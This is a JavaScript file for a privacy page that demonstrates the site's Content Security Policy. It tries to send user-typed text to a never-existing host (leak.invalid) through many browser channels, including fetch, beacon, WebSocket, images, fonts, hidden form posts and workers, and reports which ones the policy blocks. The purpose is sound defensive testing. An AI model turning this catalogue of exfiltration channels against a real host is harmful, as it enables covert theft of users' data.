// The laboratory of the page /privacy: tries to smuggle a made-up text out of the
// page by every channel there is a row for, and shows what became of it.

import { words } from "./words.js";

/** @typedef {"blocked" | "escaped" | "untested"} Outcome */
/** @typedef {(url: string, refused: Promise<Outcome>) => Promise<Outcome> | Outcome} Attempt */

const patience = 1500; // ms until an attempt that nobody refused counts as escaped
const host = "leak.invalid"; // .invalid never exists (RFC 2606)

const laboratory = document.getElementById("leak");
const text = /** @type {HTMLInputElement | null} */ (document.getElementById("leak-text"));
const button = /** @type {HTMLButtonElement | null} */ (document.getElementById("leak-try"));

/** Puts an element into the page until the attempt is over.
 * @param {HTMLElement} element @param {Promise<Outcome>} refused */
async function during(element, refused) {
  element.hidden = true;
  document.body.append(element);
  const outcome = await refused;
  element.remove();
  return outcome;
}

/** @template {keyof HTMLElementTagNameMap} T
 * @param {T} name @param {Partial<HTMLElementTagNameMap[T]>} properties */
const make = (name, properties) => Object.assign(document.createElement(name), properties);

/** A connection that an object holds open: it is closed afterwards.
 * @param {{close(): void}} connection @param {Promise<Outcome>} refused */
async function closing(connection, refused) {
  const outcome = await refused;
  connection.close();
  return outcome;
}

/** Sends a form into a hidden frame, so that this page stays.
 * @param {string} url @param {Promise<Outcome>} refused */
async function sendForm(url, refused) {
  const frame = make("iframe", { name: "leak-frame", hidden: true });
  const form = make("form", { action: url, method: "post", target: "leak-frame", hidden: true });
  document.body.append(frame, form);
  form.submit();
  const outcome = await refused;
  frame.remove();
  form.remove();
  return outcome;
}

/** @param {string} url @param {Promise<Outcome>} refused */
async function loadFont(url, refused) {
  const font = new FontFace("leak", `url("${url}")`);
  font.load().catch(() => {}); // it cannot exist; only the policy's answer counts
  return refused;
}

/** @type {Record<string, Attempt>} */
const attempts = {
  fetch: (url, refused) => (fetch(url, { mode: "no-cors" }).catch(() => {}), refused),
  xhr(url, refused) {
    const request = new XMLHttpRequest();
    request.open("GET", url);
    request.send();
    return refused;
  },
  beacon: (url, refused) => (navigator.sendBeacon(url, "x"), refused),
  websocket: (url, refused) => closing(new WebSocket(url.replace("https:", "wss:")), refused),
  eventsource: (url, refused) => closing(new EventSource(url), refused),
  image: (url, refused) => during(make("img", { src: url, alt: "" }), refused),
  iframe: (url, refused) => during(make("iframe", { src: url }), refused),
  stylesheet: (url, refused) => during(make("link", { rel: "stylesheet", href: url }), refused),
  prefetch: (url, refused) => during(make("link", { rel: "prefetch", href: url }), refused),
  media: (url, refused) => during(make("video", { src: url }), refused),
  font: loadFont,
  form: sendForm,
  // Trusted Types refuse these before a request is thought of: they throw.
  script: (url, refused) => during(make("script", { src: url }), refused),
  worker: (url, refused) => (new Worker(url), refused),
};

/** What the policy says about one URL: blocked when it refuses it, escaped when it does not.
 * @param {string} url @returns {Promise<Outcome>} */
function verdict(url) {
  return new Promise((resolve) => {
    /** @param {SecurityPolicyViolationEvent} event */
    const hear = (event) => {
      const about = event.blockedURI;
      // A report may name the whole URL or its origin only.
      if (about === url || about === new URL(url).origin || about === url.replace("https:", "wss:")) end("blocked");
    };
    const timer = setTimeout(() => end("escaped"), patience);
    /** @param {Outcome} outcome */
    const end = (outcome) => {
      clearTimeout(timer);
      document.removeEventListener("securitypolicyviolation", hear);
      resolve(outcome);
    };
    document.addEventListener("securitypolicyviolation", hear);
  });
}

/** One attempt with a host name of its own, so that no report is taken for another's.
 * @param {string} channel @returns {Promise<Outcome>} */
async function attempt(channel) {
  const act = attempts[channel];
  if (!act) return "untested";
  const url = `https://${channel}.${host}/?${encodeURIComponent(text?.value ?? "")}`;
  try {
    return await act(url, verdict(url));
  } catch {
    return "blocked"; // the browser refused even to begin
  }
}

/** @param {HTMLElement} row */
async function run(row) {
  const outcome = await attempt(row.dataset.channel ?? "");
  row.dataset.state = outcome;
  const cell = row.querySelector("[data-outcome]");
  if (cell) cell.textContent = words(row, outcome);
}

button?.addEventListener("click", async () => {
  button.disabled = true;
  const rows = [...(laboratory?.querySelectorAll("[data-channel]") ?? [])];
  await Promise.all(rows.map((row) => run(/** @type {HTMLElement} */ (row))));
  button.disabled = false;
  button.focus();
});

/** The page's own count: everything it asks the network for from now on. Browsers
 * list attempts that the policy refused as well; those were never made. */
const counter = document.getElementById("request-count");
if (counter) {
  /** @type {string[]} */
  const asked = [];
  /** @type {Set<string>} */
  const refused = new Set();
  const since = performance.now();
  const show = () => {
    const made = asked.filter((url) => !refused.has(url) && !refused.has(new URL(url).origin));
    counter.textContent = String(made.length);
  };
  show();
  document.addEventListener("securitypolicyviolation", (event) => {
    refused.add(event.blockedURI);
    show();
  });
  new PerformanceObserver((list) => {
    for (const entry of list.getEntries()) if (entry.startTime >= since) asked.push(entry.name);
    show();
  }).observe({ type: "resource" });
}
